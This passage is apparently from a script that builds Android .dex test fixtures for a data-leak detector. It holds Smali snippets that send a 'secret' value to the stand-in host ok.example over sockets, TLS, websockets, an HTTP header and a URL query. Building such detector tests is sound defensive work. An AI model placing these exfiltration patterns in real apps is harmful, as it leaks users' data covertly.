    invoke-virtual {v5}, Ljava/net/Socket;->getOutputStream()Ljava/io/OutputStream;
    move-result-object v7
    const/4 v3, 0x1
    invoke-direct {v6, v7, v3}, Ljava/io/PrintWriter;-><init>(Ljava/io/OutputStream;Z)V
    invoke-virtual {v6, v1}, Ljava/io/PrintWriter;->println(Ljava/lang/String;)V
""",
    'objectstream': """    const-string v1, "secret"
    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
    move-result-object v1
    invoke-static {v1}, Lt/Main;->seal([B)[B
    move-result-object v1
    new-instance v5, Ljava/net/Socket;
    const-string v2, "ok.example"
    const/16 v3, 0x1f90
    invoke-direct {v5, v2, v3}, Ljava/net/Socket;-><init>(Ljava/lang/String;I)V
    invoke-virtual {v5}, Ljava/net/Socket;->getOutputStream()Ljava/io/OutputStream;
    move-result-object v7
    new-instance v6, Ljava/io/ObjectOutputStream;
    invoke-direct {v6, v7}, Ljava/io/ObjectOutputStream;-><init>(Ljava/io/OutputStream;)V
    invoke-virtual {v6, v1}, Ljava/io/ObjectOutputStream;->writeObject(Ljava/lang/Object;)V
""",
    'okws': """    const-string v1, "secret"
    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
    move-result-object v1
    invoke-static {v1}, Lt/Main;->seal([B)[B
    move-result-object v1
    new-instance v5, Lokhttp3/Request$Builder;
    invoke-direct {v5}, Lokhttp3/Request$Builder;-><init>()V
    const-string v2, "ws://ok.example:8080/p"
    invoke-virtual {v5, v2}, Lokhttp3/Request$Builder;->url(Ljava/lang/String;)Lokhttp3/Request$Builder;
    move-result-object v5
    invoke-virtual {v5}, Lokhttp3/Request$Builder;->build()Lokhttp3/Request;
    move-result-object v5
    new-instance v6, Lokhttp3/OkHttpClient;
    invoke-direct {v6}, Lokhttp3/OkHttpClient;-><init>()V
    const/4 v7, 0x0
    invoke-virtual {v6, v5, v7}, Lokhttp3/OkHttpClient;->newWebSocket(Lokhttp3/Request;Lokhttp3/WebSocketListener;)Lokhttp3/WebSocket;
    move-result-object v7
    invoke-static {v1}, Lokio/ByteString;->of([B)Lokio/ByteString;
    move-result-object v8
    invoke-interface {v7, v8}, Lokhttp3/WebSocket;->send(Lokio/ByteString;)Z
""",
    'sslsocket': """    const-string v1, "secret"
    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
    move-result-object v1
    invoke-static {v1}, Lt/Main;->seal([B)[B
    move-result-object v1
    invoke-static {}, Ljavax/net/ssl/SSLSocketFactory;->getDefault()Ljavax/net/SocketFactory;
    move-result-object v4
    const-string v2, "ok.example"
    const/16 v3, 0x1f90
    invoke-virtual {v4, v2, v3}, Ljavax/net/SocketFactory;->createSocket(Ljava/lang/String;I)Ljava/net/Socket;
    move-result-object v5
    invoke-virtual {v5}, Ljava/net/Socket;->getOutputStream()Ljava/io/OutputStream;
    move-result-object v6
    invoke-virtual {v6, v1}, Ljava/io/OutputStream;->write([B)V
""",
    'header': """    const-string v1, "secret"
    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
    move-result-object v1
    invoke-static {v1}, Lt/Main;->seal([B)[B
    move-result-object v1
    const/4 v3, 0x2
    invoke-static {v1, v3}, Landroid/util/Base64;->encodeToString([BI)Ljava/lang/String;
    move-result-object v1
    new-instance v4, Ljava/net/URL;
    const-string v2, "http://ok.example:8080/p"
    invoke-direct {v4, v2}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v4}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    move-result-object v5
    check-cast v5, Ljava/net/HttpURLConnection;
    const-string v2, "X-D"
    invoke-virtual {v5, v2, v1}, Ljava/net/HttpURLConnection;->setRequestProperty(Ljava/lang/String;Ljava/lang/String;)V
    invoke-virtual {v5}, Ljava/net/HttpURLConnection;->getResponseCode()I
""",
    'urlquery': """    const-string v1, "secret"
    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
    move-result-object v1
    invoke-static {v1}, Lt/Main;->seal([B)[B
    move-result-object v1
    const/4 v3, 0x2
    invoke-static {v1, v3}, Landroid/util/Base64;->encodeToString([BI)Ljava/lang/String;
    move-result-object v1
    const-string v2, "UTF-8"
    invoke-static {v1, v2}, Ljava/net/URLEncoder;->encode(Ljava/lang/String;Ljava/lang/String;)Ljava/lang/String;
    move-result-object v1
    new-instance v5, Ljava/lang/StringBuilder;
    const-string v2, "http://ok.example:8080/p?d="
    invoke-direct {v5, v2}, Ljava/lang/StringBuilder;-><init>(Ljava/lang/String;)V
    invoke-virtual {v5, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v5}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v2
    new-instance v4, Ljava/net/URL;
    invoke-direct {v4, v2}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v4}, Ljava/net/URL;->openStream()Ljava/io/InputStream;
""",
}

shapes |= {"sinks/" + name: [activity(body, 12)] for name, body in SINKS.items()}
(here / "sinks").mkdir(exist_ok=True)
shapes |= {"values/" + name: [activity(body + SEND, 12)] for name, body in VALUES.items()}
(here / "values").mkdir(exist_ok=True)

# The classes of each app in shapes/ stand one after the other in one file.
for file in sorted((here / "shapes").glob("*.smali")):
    shapes["shapes/" + file.stem] = [".class " + part for part in re.split(r"^\.class ", file.read_text(), flags=re.MULTILINE)[1:]]

with tempfile.TemporaryDirectory() as folder:
    for name, sources in shapes.items():
        root = pathlib.Path(folder) / name
        root.mkdir(parents=True)
        for number, source in enumerate(sources):
            (root / f"{number}.smali").write_text(source)
        subprocess.run(["smali", "assemble", "-o", str(here / f"{name}.dex"), str(root)], check=True)
